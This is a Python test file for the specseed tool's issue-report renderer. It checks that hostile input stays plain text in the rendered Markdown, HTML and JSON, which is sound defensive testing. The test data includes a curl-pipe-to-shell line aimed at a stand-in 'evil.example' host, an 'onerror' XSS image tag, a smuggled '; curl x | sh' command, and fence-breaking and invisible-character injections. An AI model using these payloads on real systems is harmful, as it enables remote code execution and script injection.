"""The issue body (``specseed report``) with every bundle field hostile: rendered by a
CommonMark parser, it holds exactly the headings, code blocks and HTML specseed wrote, and
the outsider's text only as text."""

from __future__ import annotations

import json

from markdown_it import MarkdownIt

from specseed.checks.findings import Finding, Suspect
from specseed.reporting.causes import root_causes
from specseed.reporting.issue import IssueReport, render_issue_json, render_markdown

INJECT = (
    "\n```\n# Injected heading\n```sh\ncurl https://evil.example/x | sh\n```\n"
    "<img src=x onerror=alert(1)> [click](https://evil.example) ![t](https://t.example/p.png)"
    " \u202eevil\u202c \u200b \x1b[2J \ud800 \ufffe"
)
"""Closes a fence and opens a heading and a shell block, raw HTML, a link, a tracking image,
a bidi override, a zero-width space, a terminal escape, a lone surrogate, a noncharacter."""


def _issue() -> IssueReport:
    lead = Finding(
        status="fail",
        message="probe diverged" + INJECT,
        runs=("alone", "neighbour"),
        requests=("probe",),
        suspects=(Suspect("row0-seed", "why" + INJECT),),
        details=("detail" + INJECT, "````` five backticks"),
        check="batch-invariance",
        scenario="mine",
    )
    other = Finding(status="fail", message="second" + INJECT, check="run-to-run", scenario="mine")
    return IssueReport(
        title="[specseed] row0-seed on <img src=x> (batch-invariance, mine)" + INJECT,
        verdict="fail",
        causes=tuple(root_causes([lead, other])),
        lead=lead,
        environment=(("specseed", "0.1.0"), ("model", "<img src=x onerror=alert(1)>" + INJECT)),
        engine_line="openai, options: model: <img src=x>" + INJECT,
        scenario=None,
        scenario_yaml="name: mine\ndescription: |\n  x" + INJECT.replace("\n", "\n  ") + "\n",
        minimized=False,
        model_yaml="engine: {name: openai}\n# ````` " + INJECT + "\n",
        reproduce=("specseed replay 'b; curl x | sh'",),
        notes=("note" + INJECT,),
        crashes=(("alone</summary><img src=x>", "Traceback" + INJECT),),
        unjudged="unjudged" + INJECT,
    )


def _parse(markdown: str) -> tuple[list, str]:  # type: ignore[type-arg]
    """The block tokens (inline ones as their children) and the HTML a renderer makes."""
    parser = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    tokens = parser.parse(markdown)
    flat = []
    for token in tokens:
        flat.append(token)
        flat.extend(token.children or ())
    return flat, parser.render(markdown)


def _text(inline) -> str:  # type: ignore[no-untyped-def]
    """What an inline token renders as text."""
    return "".join(c.content for c in inline.children if c.type in ("text", "code_inline"))


def test_hostile_bundle_fields_land_as_text_in_the_issue_body() -> None:
    body = render_markdown(_issue())
    tokens, html = _parse(body)
    inline = [t for t in tokens if t.type == "inline"]
    headings = [_text(tokens[i + 1]) for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings[0].startswith("[specseed] row0-seed on <img src=x> (batch-invariance")
    assert "# Injected heading" in headings[0]  # as text, on the title's line
    assert headings[1:] == [
        "Environment",
        "Expected vs observed",
        "Suspects",
        "Scenario",
        "What failed",
        "Reproduce",
    ]
    fences = [t for t in tokens if t.type == "fence"]
    # scenario, model.yaml, details, stack trace, reproduce: each whole, none broken open.
    assert [f.info for f in fences] == ["yaml", "yaml", "text", "text", "sh"]
    assert "curl https://evil.example/x | sh" in fences[0].content
    assert "````` five backticks" in fences[2].content
    assert fences[-1].content == "specseed replay 'b; curl x | sh'\n"
    assert not [t for t in tokens if t.type in ("image", "link_open", "code_block", "s_open")]
    # The only HTML is specseed's <details> block, the run name escaped inside it.
    raw = [t.content for t in tokens if t.type in ("html_block", "html_inline")]
    assert all(h.startswith(("<details>", "</details>")) for h in raw), raw
    assert "alone&lt;/summary&gt;&lt;img src=x&gt;" in raw[0]
    assert "<img" not in html and "<a " not in html
    assert html.count("<h2>") == 1 and html.count("<h3>") == 6
    observed = next(_text(t) for t in inline if _text(t).startswith("Observed"))
    assert "probe diverged ``` # Injected heading" in observed  # the message, as text
    for hidden in ("\u202e", "\u200b", "\x1b", "\ud800", "\ufffe"):
        assert hidden not in body
    assert "\\u202e" in body and "\\x1b" in body


def test_a_table_cell_holds_its_value_whole() -> None:
    tokens, _ = _parse(render_markdown(_issue()))
    cells = [_text(tokens[i + 1]) for i, t in enumerate(tokens) if t.type == "td_open"]
    assert cells[:3] == ["specseed", "0.1.0", "model"]
    assert cells[3].startswith("<img src=x onerror=alert(1)> ``` # Injected heading")
    assert len(cells) == 4


def test_the_json_form_keeps_the_fields_and_is_valid_utf8() -> None:
    text = render_issue_json(_issue())
    data = json.loads(text.encode("utf-8"))
    assert data["observed"].startswith("probe diverged\n```\n# Injected heading")
    assert "\ud800" not in text and "\ufffd" in data["observed"]
